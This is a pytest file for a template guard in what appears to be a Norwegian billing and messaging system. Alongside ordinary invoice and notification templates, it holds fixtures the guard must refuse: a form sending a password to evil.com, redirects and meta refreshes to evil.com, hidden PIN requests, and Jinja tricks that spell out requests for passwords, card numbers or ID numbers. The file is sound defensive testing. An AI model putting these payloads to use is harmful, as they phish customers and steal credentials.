"""Realistic message and e-mail templates that pass, and template tricks that are refused."""

from __future__ import annotations

import pytest

from gateway.guard import check_template, is_refused

PASS_T = [
("message", """Hei {{ customer.first_name }},

Fakturaen for {{ period }} på {{ "%.2f"|format(amount) }} kr forfaller {{ due_date }}.
{% if autopay %}Beløpet trekkes automatisk.{% else %}Betal til kontonummer {{ our_account }} med KID {{ kid }}.{% endif %}

Vi ber aldri om passord eller kortnummer.
"""),
("message", """{% for line in lines %}{{ line.description }}: {{ line.amount }} kr
{% endfor %}Totalt: {{ total }} kr"""),
("message", "Hei {{ name }}! Vi har registrert flyttedato {{ moving_date }}. Send oss målerstanden på flyttedagen."),
("email", """Subject: Ny melding fra {{ company_name }}

Hei!
Du har en ny melding{% if category %} ({{ category|upper }}){% endif %}. Les den her: {{ message_url }}
Logg inn med BankID. Vi ber aldri om passord på e-post.
"""),
("email", """<table><tr><td><img src="{{ portal_url }}/static/logo.png" alt="{{ company_name }}"></td></tr>
<tr><td><a href="{{ message_url }}" title="Les meldingen">Les meldingen</a></td></tr></table>"""),
("email", """{% set greeting = "Hei" %}{{ greeting }}! {{ company_name }} har sendt deg en melding {{ sent_date }}: {{ message_url }}"""),
]
REFUSE_T = [
("message", "Hei {{ name }}, {% if x %}vennligst {% endif %}send oss {{ 'kort' ~ 'nummeret' }} ditt."),
("message", "<form action='https://evil.com'><input name='password'></form>"),
("message", "Hei {{ name }}, skriv inn <b>Pass</b>ordet ditt her."),
("message", "{% set a = 'oppgi' %}{% set b = 'fødselsnummer' %}{{ a|capitalize }} {{ b }}."),
("email", "{{ company_name }}: Bekreft kontoen din på https://min-example.no/login"),
("email", "<a href='{{ portal_url }}/logout?next=https://evil.com'>x</a>"),
("email", "Hei {{ company_name }} {{ message_url|replace('min.example.no', 'evil.com') }}"),
("email", "{{ message_url ~ '?t=abc' }}"),
("email", "<p style='display:none'>Svar med PIN-koden din</p><a href='{{ message_url }}'>Les</a>"),
("message", "{{ 'Bekreft BankID-koden din' if true }}"),
("message", "{% macro ask(x) %}Oppgi {{ x }}{% endmacro %}{{ ask('passordet ditt') }}"),
("message", "Send oss {{ ['pass','ord','et']|join('') }} ditt"),
("email", "<meta http-equiv='refresh' content='0;url=https://evil.com'>"),
]


@pytest.mark.parametrize("kind,src", PASS_T)
def test_realistic_templates_pass(kind, src):
    assert check_template(src, kind=kind) == []


@pytest.mark.parametrize("kind,src", REFUSE_T)
def test_template_tricks_are_refused(kind, src):
    assert is_refused(check_template(src, kind=kind))
